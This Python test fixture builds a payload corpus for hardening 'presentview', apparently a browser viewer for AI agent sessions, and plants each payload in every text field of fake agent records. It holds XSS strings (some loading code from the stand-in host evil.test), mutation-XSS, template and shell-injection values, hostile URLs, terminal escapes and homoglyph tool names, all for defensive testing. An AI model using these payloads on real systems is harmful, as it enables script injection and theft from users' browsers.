"""What an agent can be made to print by those who want more of its reader's browser than to show
text.

The payloads are made from tables: what would act (`_ACTS`), what it breaks out of (`_EXITS`),
where a link leads (`_ADDRESSES`) and how one is written (`_LINKS`), and so on. Whatever would run
sets `window.__xss`; whatever would ask somebody asks `evil.test` or `/evil`.
"""

from __future__ import annotations

import html
import json
from collections.abc import Iterator, Sequence
from urllib.parse import quote

from presentview.records import (
    Attachment,
    Compaction,
    FileDiff,
    Header,
    Kind,
    Profile,
    Record,
    Retry,
    Tool,
    encode,
    encode_header,
)

__all__ = ["PAYLOADS", "UNSEEN", "hostile_records", "hostile_session"]

_RUN = "window.__xss=1"
_EVIL = "https://evil.test/"

# What a browser would run, fetch, send or lay over the page if it were markup.
_ACTS = {
    "script": f"<script>{_RUN}</script>",
    "img": f"<img src=x onerror={_RUN}>",
    "svg": f"<svg onload={_RUN}>",
    "htmx": "<div hx-get='/evil' hx-trigger='load'>x</div>",
    "script from elsewhere": f"<script src='{_EVIL}x.js'></script>",
    "module": f"<script type=module>import '{_EVIL}x.js'</script>",
    "import map": f'<script type=importmap>{{"imports":{{"a":"{_EVIL}"}}}}</script>',
    "script across lines": f"<script\n>{_RUN}</script\n>",
    "script in script": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "script with a NUL": f"<\0script>{_RUN}</script>",
    "script with a slash": f"<script/x>{_RUN}</script/x>",
    "script in capitals": f"<SCRIPT>{_RUN}</SCRIPT>",
    "open script": f"<script>{_RUN}//",
    "svg script": f"<svg><script>{_RUN}</script></svg>",
    "svg script href": f"<svg><script href='{_EVIL}x.js'></script></svg>",
    "svg animation": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    "svg set": f"<svg><a><set attributeName=href to='javascript:{_RUN}'/><text>x</text></a></svg>",
    "svg link": f"<svg><a xlink:href='javascript:{_RUN}'><text y=20>click</text></a></svg>",
    "svg use": f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}></svg>#x'></svg>",
    "svg image": f"<svg><image href='{_EVIL}x.png'></image></svg>",
    "svg foreign": f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    "svg filter": f"<svg><filter><feImage href='{_EVIL}x.svg'/></filter></svg>",
    "iframe": f"<iframe src='{_EVIL}'></iframe>",
    "iframe srcdoc": f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "iframe javascript": f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    "frameset": f"<frameset onload={_RUN}><frame src='{_EVIL}'></frameset>",
    "object": f"<object data='javascript:{_RUN}'></object>",
    "embed": f"<embed src='data:text/html,<script>{_RUN}</script>'>",
    "applet": f"<applet code='{_EVIL}x.class'></applet>",
    "base": f"<base href='{_EVIL}'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={_EVIL}'>",
    "other policy": '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "sheet": f"<link rel=stylesheet href='{_EVIL}x.css'>",
    "preload": f"<link rel=preload as=image href='{_EVIL}x.png'>",
    "prefetch": f"<link rel=dns-prefetch href='{_EVIL}'>",
    "icon": f"<link rel=icon href='{_EVIL}x.ico'>",
    "style": "<style>* { display: none }</style>",
    "style import": f"<style>@import '{_EVIL}x.css';</style>",
    "style attribute": "<p style='position:fixed;inset:0'>over all</p>",
    "style image": f"<p style='background:url({_EVIL}x.png)'>x</p>",
    "body": f"<body onload={_RUN}>",
    "table background": f"<table background='{_EVIL}x.png'><tr><td>x</table>",
    "srcset": f"<img srcset='{_EVIL}x.png 1x'>",
    "picture": f"<picture><source srcset='{_EVIL}x.png'><img></picture>",
    "remote image": f"<img src='{_EVIL}x.png'>",
    "other spelling of img": f"<image src=x onerror={_RUN}>",
    "video": f"<video src=x onerror={_RUN}></video>",
    "poster": f"<video poster='{_EVIL}x.png'></video>",
    "audio": f"<audio src=x onerror={_RUN}></audio>",
    "source": f"<video><source onerror={_RUN} src=x></video>",
    "track": f"<video src=x><track default src='{_EVIL}x.vtt'></video>",
    "details": f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    "popover": f"<div popover id=p onbeforetoggle={_RUN}></div><button popovertarget=p>x</button>",
    "dialog": "<dialog open>your token, please</dialog>",
    "input": f"<input autofocus onfocus={_RUN}>",
    "select": f"<select autofocus onfocus={_RUN}></select>",
    "textarea": f"<textarea autofocus onfocus={_RUN}></textarea>",
    "image button": f"<input type=image src='{_EVIL}x.png'>",
    "form": f"<form action='{_EVIL}'><button>send</button></form>",
    "form action": f"<form><button formaction='javascript:{_RUN}'>x</button></form>",
    "marquee": f"<marquee onstart={_RUN}>x</marquee>",
    "anchor": f"<a href='javascript:{_RUN}'>x</a>",
    "ping": f"<a href='#c1' ping='{_EVIL}'>x</a>",
    "area": f"<map name=m><area href='javascript:{_RUN}' shape=default></map>",
    "editable": f"<p contenteditable autofocus onfocus={_RUN}>x</p>",
    "transition": f"<p id=x style='transition:1s' ontransitionend={_RUN}>x</p>",
    "template": f"<template><script>{_RUN}</script></template>",
    "shadow": f"<div><template shadowrootmode=open><script>{_RUN}</script></template></div>",
    "slot": f"<slot onslotchange={_RUN}></slot>",
    "custom element": f"<x-evil onclick={_RUN}>x</x-evil>",
    "our ids": "<div id=cards class='card kids'>x</div>",
    "our names": "<form name=presentview><input name=rows></form><img name=body>",
    "our data": "<button data-copy='/evil' data-theme-switch data-clock=run>x</button>",
    "our lazy body": "<details open><div class='in lazy' data-body='/evil'><a href='/card/'>x</a>",
    "plaintext": "<plaintext>",
    "comment": "<!-- all that follows",
    "instruction": f"<?xml <script>{_RUN}</script>?>",
    "doctype": f"<!DOCTYPE x [<!ENTITY e SYSTEM '{_EVIL}'>]>&e;",
}

# What text may stand in, and how it is left.
_EXITS = (
    '">', "'>", "`>", "-->", "--!>", "]]>", "<!-->", "<![CDATA[", "</a>", "</code></pre>",
    "</span></summary></details></article>", "</script>", "</style>", "</svg>", "</template>",
    "</textarea>", "</title>", "</noscript>", "</select></table>", "\\\">", "\n\n", "\\",
)  # fmt: skip

_HANDLERS = (
    "onmouseover", "onfocus", "onclick", "onpointerenter", "onanimationstart", "onload", "onerror",
    "ontoggle", "onscroll", "onwheel", "onbeforeinput", "oncontentvisibilityautostatechange",
)  # fmt: skip
_QUOTES = ('" {0}="{1}" x="', "' {0}='{1}' x='", " {0}={1} ")

_HTMX = (
    "<div hx-post='/evil' hx-trigger='load'>x</div>",
    "<div data-hx-get='/evil' data-hx-trigger='load'>x</div>",
    f"<div hx-on:load='{_RUN}'>x</div>",
    f"<div hx-on::after-init='{_RUN}'>x</div>",
    f"<div hx-on:click='{_RUN}' data-hx-on-click='{_RUN}'>x</div>",
    f"<div hx-get='/evil' hx-trigger='load[{_RUN}]'>x</div>",
    "<div hx-get='/evil' hx-trigger='every 10ms'>x</div>",
    "<div hx-get='/evil' hx-trigger='revealed, intersect'>x</div>",
    f"<div hx-get='/evil' hx-vals='js:{{x: {_RUN}}}' hx-trigger=load>x</div>",
    f"<div hx-get='/evil' hx-headers='js:{{x: {_RUN}}}' hx-trigger=load>x</div>",
    "<div hx-get='/evil' hx-target='body' hx-swap='outerHTML' hx-trigger=load>x</div>",
    f"<div hx-boost=true><a href='/evil'>x</a></div><div hx-confirm='{_RUN}'></div>",
    "<div id=cards hx-swap-oob='true'>x</div>",
    "<hx-partial hx-target='body'><p>x</p></hx-partial>",
    f"<template hx type=partial hx-target='body'><script>{_RUN}</script></template>",
    "<div hx-ext='sse' sse-connect='/evil' sse-swap='message'>x</div>",
    f"<div hx-config='{{\"eval\":true}}' hx-action='/evil' hx-preload='/evil'>{_RUN}</div>",
    '" hx-get="/evil" hx-trigger="load" x="',
    "' hx-get='/evil' hx-trigger='mouseenter' x='",
)

# Where a link may not lead, however it is spelled.
_ADDRESSES = (
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f"java\tscript:{_RUN}", f"\x01javascript:{_RUN}",
    f"\u00a0javascript:{_RUN}", f"java\u00adscript:{_RUN}", f"java\u200bscript:{_RUN}",
    f"javascript\uff1a{_RUN}", f"javascript&colon;{_RUN}", f"&#106;avascript:{_RUN}",
    f"&#x6A avascript:{_RUN}", f"%6Aavascript:{_RUN}", f"javascript://evil.test/%0a{_RUN}",
    f"vbscript:{_RUN}", f"livescript:{_RUN}", f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={_RUN}>", "blob:https://evil.test/1", "file:///etc/passwd",
    "filesystem:http://evil.test/x", "view-source:https://evil.test/", "about:blank",
    "intent://evil.test#Intent;end", "chrome://settings", "jar:https://evil.test!/x", "ws://evil.test",
    "//evil.test/x", "\\\\evil.test\\x", "/\\evil.test", "https:/\\evil.test", "http:evil.test",
    "https://127.0.0.1@evil.test/", "https://evil.test\\@127.0.0.1/", "https://еvil.test/",
    "https://evil\u3002test/", "https://127.1:8377/evil", "/evil", "?evil", "../evil", "#c1",
    f'https://example.com/"onmouseover="{_RUN}', f"https://example.com/'onclick='{_RUN}",
    "mailto:a@evil.test?body=\r\nBcc:b", "https://evil.test/\u202egnp.exe",
)  # fmt: skip
_LINKS = (
    "[a]({0})",
    "[a](<{0}>)",
    "![a]({0})",
    "<{0}>",
    "[a]: {0}\n\n[a] ![a]",
    "\x1b]8;;{0}\x1b\\click\x1b]8;;\x1b\\",
)

_MARKDOWN = (
    f'![a](x "onerror={_RUN}")',
    f'[a](https://example.com/ "x\' onclick={_RUN}")',
    f"```html\n</code></pre><script>{_RUN}</script>\n```",
    f'```"onload="{_RUN}\nx\n```',
    f"~~~ <img src=x onerror={_RUN}>\nx\n~~~",
    f"| a |\n|---|\n| <img src=x onerror={_RUN}> |",
    f"| <script>{_RUN}</script> |\n|:-:|",
    f"> <script>{_RUN}</script>\n> - <svg onload={_RUN}>",
    f"# <img src=x onerror={_RUN}> {{#id onclick={_RUN}}}",
    f"    <script>{_RUN}</script>",
    f"``<script>{_RUN}</script>``",
    f"[<img src=x onerror={_RUN}>](https://example.com/)",
    f"[![<svg onload={_RUN}>]({_EVIL}x.png)]({_EVIL})",
    f"*<b onclick={_RUN}>*</b> __<i>__ ~~</s>~~",
    f"<script>\n\n{_RUN}\n\n</script>",
    f"<div\n\nonclick={_RUN}>",
    "[" * 300 + "](" * 300,
    "*_" * 500,
    "> " * 200 + "x",
    "- " * 200 + "x",
    "[^1]\n\n[^1]: <script>window.__xss=1</script>",
    "&lt;script&gt;&#0;&#xD800;&#x110000;&bogus;",
)

# What changes when it is parsed twice.
_TWICE = (
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f"<svg></p><style><a id='</style><img src=x onerror={_RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
    f"<svg><title><![CDATA[</title><img src=x onerror={_RUN}>]]>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={_RUN}></annotation-xml>",
    f"<table><td><select><template></select><img src=x onerror={_RUN}>",
    f"<p id='&lt;/p>&lt;img src=x onerror={_RUN}>'>",
    f"<a title='`'><img src=`x` onerror={_RUN}//",
    f"<x<img src=x onerror={_RUN}><y>",
    f"<<script>{_RUN}//<</script>",
    f'<img """><script>{_RUN}</script>">',
    f"<listing>&lt;img src=x onerror={_RUN}&gt;</listing>",
    f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'>",
)

_TEMPLATES = (
    "{{ 7919 * 7907 }}{% include 'x' %}${7919*7907}", "{{ ''.__class__.__mro__ }}",
    f"{{{{ '<script>{_RUN}</script>' | safe }}}}", "{% raw %}{{ x }}{% endraw %}{# x #}",
    "<%= 7919 * 7907 %>", "#{7919 * 7907}", "[[7919*7907]]", "@{7919*7907}", "{0.__class__}{x!r}",
    "%s%n%(x)s", f"{{{{constructor.constructor('{_RUN}')()}}}}", f"<p x-init='{_RUN}' v-html=x>",
    "$(touch /tmp/evil)`touch /tmp/evil`;|&",
)  # fmt: skip

_STYLES = (
    "x; } * { display: none } .y {", f"}} @import '{_EVIL}x.css'; {{", "expression(alert(1))",
    "visually-hidden kids card prompt", "in lazy htmx-request", "card tool done ctl live-note",
    f"--x: url({_EVIL}x.png)", "hidden data-open open",
)  # fmt: skip

_TERMINAL = (
    f"\x1b[31m<script>{_RUN}</script>\x1b[0m",
    f"\x1b]0;<script>{_RUN}</script>\x07",
    f"\x1b]2;{_RUN}\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b[2J\x1b[H\x1b[?1049h",
    "\x1b[8mhidden\x1b[m",
    "\x1b[10A\x1b[2Kover what was said",
    "safe\rsudo\bevil",
    "\x9b31mc1\x9b0m\x9d0;x\x9c",
    f"\x1bP<script>{_RUN}</script>\x1b\\",
    "\x1b_x\x1b\\\x1b^y\x1b\\\x1bXz\x1b\\",
    "\x1b[38;2;999;0;0mx",
    "\x1b[" + "1;" * 500 + "m",
    "\x1b[",
    "\x1b]8;;" + "x" * 300,
    '\x1b]8;id=a"onclick=b;/evil\x07x',
    f'\x1b[31"onclick="{_RUN}mx',
    "\x1b[6n\x1b[c\x1bZ",
    "\x07" * 40 + "\x0e\x0f",
)

UNSEEN = (
    "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\u2060\ufeff"
)
"""Characters that turn the direction of writing or have no width at all."""

_MORE_UNSEEN = (
    "\0",
    "\x85",
    "\u2028",
    "\ud800",
    "\U000e0041",
    "\x01 \x08 \x0b \x0c \x7f \x9f",
    "\u00ad \u034f \u115f \u180e \u200c \u200d \u2029 \u3164 \ufffa",
)

_NAMES = (
    "bаsh",
    "ｂａｓｈ",
    "bash\u200b",
    "bаѕһ",
    "𝐛𝐚𝐬𝐡",
    "ed\u0456t_file",
    "Wrіte",
    "task\u202eksat",
    "ﬁle",
    "__proto__",
    "constructor",
    "toString",
    "../../../etc/passwd",
    "c1",
    "cards",
    "null",
    "0",
    "-0",
    "Z\u0335\u0353" * 40,
    "\u0e49" * 300,
    "x" * 3000,
    "\u4e2d" * 2000,
    "\ufdfd" * 60,
    "A\u00a0" * 800,
    "مرحبا <b>שלום</b> abc",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 50,
    "\t" * 400 + "x",
    " \n" * 200 + "x",
)


def _disguised() -> Iterator[str]:
    """Markup that only becomes markup when something is decoded once too often."""
    for name in ("script", "img"):
        act = _ACTS[name]
        codes = [ord(char) for char in act]
        yield html.escape(act)
        yield html.escape(html.escape(act))
        yield "".join(f"&#{code};" for code in codes)
        yield "".join(f"&#x{code:x}" for code in codes)
        yield "".join(f"&#{code:07}" for code in codes)
        yield "".join(f"\\u{code:04x}" for code in codes)
        yield "".join(f"\\x{code:02x}" for code in codes)
        yield quote(act, safe="")
        yield quote(quote(act, safe=""), safe="")
        yield act.replace("<", "+ADw-").replace(">", "+AD4-")
        yield act.replace("<", "\uff1c").replace(">", "\uff1e")
        yield act.replace("<", "\u2028<").replace(">", ">\u2029")
        yield f"\ufeff{act}"
        yield act.replace("<", "<\u200b")


def _all() -> Iterator[str]:
    yield from _ACTS.values()
    for number, way_out in enumerate(_EXITS):
        yield way_out + _ACTS["script"]
        yield way_out + _ACTS[("img", "svg", "htmx")[number % 3]]
    for handler in _HANDLERS:
        for quoted in _QUOTES:
            yield quoted.format(handler, _RUN)
    yield from _HTMX
    # Each address in two of the ways to write a link, each way with a third of the addresses.
    for number, address in enumerate(_ADDRESSES):
        for link in (_LINKS[number % 3], _LINKS[3 + number % 3]):
            yield link.replace("{0}", address)
    yield from _MARKDOWN
    yield from _TWICE
    yield from _disguised()
    yield from _TEMPLATES
    yield from _STYLES
    yield from _TERMINAL
    for char in (*UNSEEN, *_MORE_UNSEEN):
        yield f"user{char}nimda // {char}{_ACTS['img']}"
    yield from _NAMES


PAYLOADS = tuple(dict.fromkeys(_all()))


def hostile_session(payloads: Sequence[str] = PAYLOADS) -> bytes:
    """A sidecar with each payload in each field that holds text, and then on a line of its own."""
    first = payloads[0]
    lines = [encode_header(Header(workspace=f"/w/{first}", writer=first))]
    for number, evil in enumerate(payloads):
        lines += map(encode, hostile_records(evil, number))
    lines.append(encode(Record(kind=Kind.RETRYING, text=first, retry=Retry(attempt=1, max=2))))
    own_lines = (payload.encode("utf-8", "replace") for payload in payloads)
    return b"\n".join([*lines, *own_lines]) + b"\n"


def hostile_records(evil: str, number: int) -> Iterator[Record]:
    """A turn in which every text is the payload: 13 cards and, of each call, all there can be.

    Every other one runs a command with it, the others ask a sub-agent.
    """
    yield Record(kind=Kind.TURN_STARTED, text=evil)
    yield Record(kind=Kind.MESSAGE, text=evil, reasoning=evil)
    yield Record(kind=Kind.NOTICE, text=evil, level=evil)
    yield Record(kind=Kind.PHASE, text=evil)
    yield Record(kind=Kind.STEER, text=evil)
    for name in ("task" if number % 2 else "bash", evil):
        yield from _call(evil, f"t{number}{name}", name)
    todos = json.dumps({"todos": [{"content": evil, "status": evil}]})
    nowhere = Tool(id=f"t{number}todo", name="todo_write", args=todos, parent_id=evil)
    yield Record(kind=Kind.TOOL_DISPATCH, tool=nowhere)
    compaction = Compaction(trigger=evil, messages=1, summary=evil, archive=evil)
    yield Record(kind=Kind.COMPACTION_DONE, compaction=compaction)
    said = [[{"ExpertName": evil, "Text": evil}]]
    run = {"RunID": f"t{number}", "TeamName": evil, "Task": evil, "Mode": evil, "Synthesis": evil}
    yield Record(kind=Kind.EXPERT_COLLAB, collab={**run, "Rounds": said})
    yield Record(kind=evil, text=evil)
    yield Record(kind=Kind.TURN_DONE, text=evil, level=evil)


def _call(evil: str, call: str, name: str) -> Iterator[Record]:
    arguments = dict.fromkeys(("command", "path", "description", "prompt", "url", evil), evil)
    profile = Profile(model=evil, effort=evil)
    tool = Tool(id=call, name=name, args=json.dumps(arguments), profile=profile)
    yield Record(kind=Kind.TOOL_DISPATCH, tool=tool)
    diff = f"--- {evil}\n+++ {evil}\n@@ -1 +1 @@ {evil}\n-{evil}\n+{evil}\n"
    files = (Attachment(path=evil, kind="image"), Attachment(path=evil, kind=evil))
    done = Tool(id=call, output=evil, err=evil, file_diff=FileDiff(diff=diff), attachments=files)
    yield Record(kind=Kind.TOOL_RESULT, tool=done)
